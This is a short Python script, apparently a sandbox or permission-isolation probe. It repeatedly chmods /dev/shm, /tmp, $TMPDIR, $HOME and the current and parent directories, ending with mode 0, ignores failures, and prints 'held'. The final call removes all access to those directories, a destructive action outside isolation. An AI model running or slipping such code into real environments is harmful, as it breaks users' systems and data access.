import os

for folder in ("/dev/shm", "/tmp", os.environ["TMPDIR"], os.environ["HOME"], ".", ".."):
    for mode in (0o1777, 0o2000, 0):
        try:
            os.chmod(folder, mode)
        except OSError:
            pass
print("held")
